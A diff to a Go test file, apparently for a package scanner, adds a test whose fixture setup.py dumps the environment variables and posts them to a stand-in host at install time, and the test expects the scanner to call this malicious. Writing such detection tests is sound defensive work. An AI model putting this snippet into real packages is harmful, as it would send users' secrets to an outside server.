@@ -373,3 +373,10 @@ func TestScriptRunByInstallTakesItsContext(t *testing.T) {
 		t.Errorf("script run by setup.py: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestEnvironmentDumpSent(t *testing.T) {
+	r := sdist(t, map[string]string{"setup.py": "import os, urllib.request, urllib.parse\nout = os.popen('env').read()\nparams = urllib.parse.urlencode({'e': out}).encode()\nurllib.request.urlopen('https://example.invalid/r', data=params)\n"})
+	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
+		t.Errorf("env output posted at install: %s %+v", r.Verdict, r.Findings)
+	}
+}
